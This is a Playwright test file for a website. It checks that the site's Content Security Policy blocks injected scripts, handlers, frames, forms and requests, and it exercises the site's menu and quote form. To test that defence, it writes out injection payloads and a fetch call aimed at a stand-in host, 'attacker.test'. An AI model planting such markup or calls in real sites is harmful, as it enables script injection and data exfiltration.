/** Headers and Content Security Policy in a browser: they block attacks and nothing of the site. */
import { test as bare } from "@playwright/test";
import { z } from "zod";
import { emailService } from "#email-service.ts";
import { staticRoutes } from "#routes.ts";
import { button, carousel } from "../support/carousel.ts";
import { changePage } from "../support/changed-page.ts";
import { content } from "../support/pages.ts";
import {
  closeToast,
  failureTitle,
  field,
  fillInForm,
  quoteForm,
  submit,
  successTitle,
  toast,
} from "../support/quote-form.ts";
import { expect, test } from "../support/mock-email-service.ts";

const attacker = "http://attacker.test";

/** Markup that an attacker could inject, by the directive of the policy that blocks it. */
const injections = {
  "script-src-elem": `<script>document.title = "taken"</script><script src="${attacker}/x.js"></script>`,
  "script-src-attr": `<img src="/favicon.svg" alt="" onload="document.title = 'taken'">`,
  "img-src": `<img src="${attacker}/pixel.png" alt="">`,
  "object-src": `<object data="${attacker}/thing"></object>`,
  "frame-src": `<iframe src="${attacker}/"></iframe>`,
  "base-uri": `<base href="${attacker}/">`,
  "form-action": `<form id="theirs" method="post" action="${attacker}/"></form>`,
};

bare("the policy blocks injected markup and scripts", async ({ page, baseURL }) => {
  let reached = 0;
  await page.route(`${attacker}/**`, (route) => {
    reached++;
    return route.fulfill({ contentType: "text/javascript", body: "document.title = 'taken'" });
  });
  await changePage(page, staticRoutes.contact, (html) =>
    html.replace("</main>", `${Object.values(injections).join("")}</main>`),
  );
  await page.addInitScript(() => {
    const blocked: string[] = [];
    Object.assign(window, { blocked });
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
      blocked.push(effectiveDirective);
    });
  });
  await page.goto(staticRoutes.contact);
  await page.locator("#theirs").evaluate((form: HTMLFormElement) => {
    form.submit();
  });
  for (const attempt of [
    "eval('1')",
    "document.body.innerHTML = '<b>taken</b>'",
    "trustedTypes.createPolicy('theirs', {})",
    `fetch('${attacker}/take')`,
  ]) {
    // Runs in a later task, since the debugger may do things that the page may not.
    const later = page.evaluate(`new Promise((go) => setTimeout(go)).then(() => ${attempt})`);
    await expect(later, attempt).rejects.toThrow();
  }

  const blocked = async () => z.array(z.string()).parse(await page.evaluate("blocked"));
  await expect
    .poll(async () => [...new Set(await blocked())].toSorted())
    .toEqual(
      [
        ...Object.keys(injections),
        "connect-src",
        // `eval` and `innerHTML` violate this before any other directive.
        "require-trusted-types-for",
        "trusted-types",
      ].toSorted(),
    );
  expect(await page.title()).not.toBe("taken");
  expect(reached, "requests to the attacker").toBe(0);

  // The policy lets no other site frame the site's pages.
  await page.route(`${attacker}/frame`, (route) =>
    route.fulfill({
      contentType: "text/html",
      body: `<iframe src="${baseURL}${staticRoutes.learn}"></iframe>`,
    }),
  );
  await page.goto(`${attacker}/frame`);
  await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/);
});

test("pages log nothing unexpected in any state", async ({ page, service }) => {
  const logged: string[] = [];
  page.on("console", (message) => logged.push(message.text()));
  page.on("pageerror", (error) => logged.push(error.message));
  const dialog = page.getByRole("dialog");

  await page.setViewportSize({ width: 390, height: 844 });
  await page.goto(staticRoutes.home);
  await page.getByText(content.site.header.menu, { exact: true }).click();
  await expect(dialog).toBeVisible();
  await page.keyboard.press("Escape");
  await page.locator("a.more").first().click();
  await expect(dialog).toBeVisible();
  await page.keyboard.press("Escape");
  const question = page.locator(":is(h3, h4) > button[aria-expanded]").first();
  await question.click();
  await expect(question).toHaveAttribute("aria-expanded", "true");
  await carousel(page).scrollIntoViewIfNeeded();
  await button(page, "next").click();

  await field(page, "name").focus();
  await expect(quoteForm(page)).toHaveAttribute("novalidate");
  await submit(page).click();
  await expect(page.getByRole("alert")).toBeVisible();
  await fillInForm(page);
  await submit(page).click();
  await expect(toast(page)).toContainText(successTitle);
  await closeToast(page).click();
  await expect(toast(page)).toHaveCount(0);
  expect(logged.splice(0)).toEqual([`Quote request sent 200 ${emailService.success}`]);

  // The site logs a failure on purpose, after the browser's own message.
  service.answer = { status: 503, body: "Service Unavailable" };
  await page.goto(staticRoutes.contact);
  await fillInForm(page);
  await submit(page).click();
  await expect(toast(page)).toContainText(failureTitle);
  expect(logged).toEqual([
    expect.stringMatching(/^Failed to load resource:.*503/),
    "Quote request failed 503 Service Unavailable",
  ]);
});
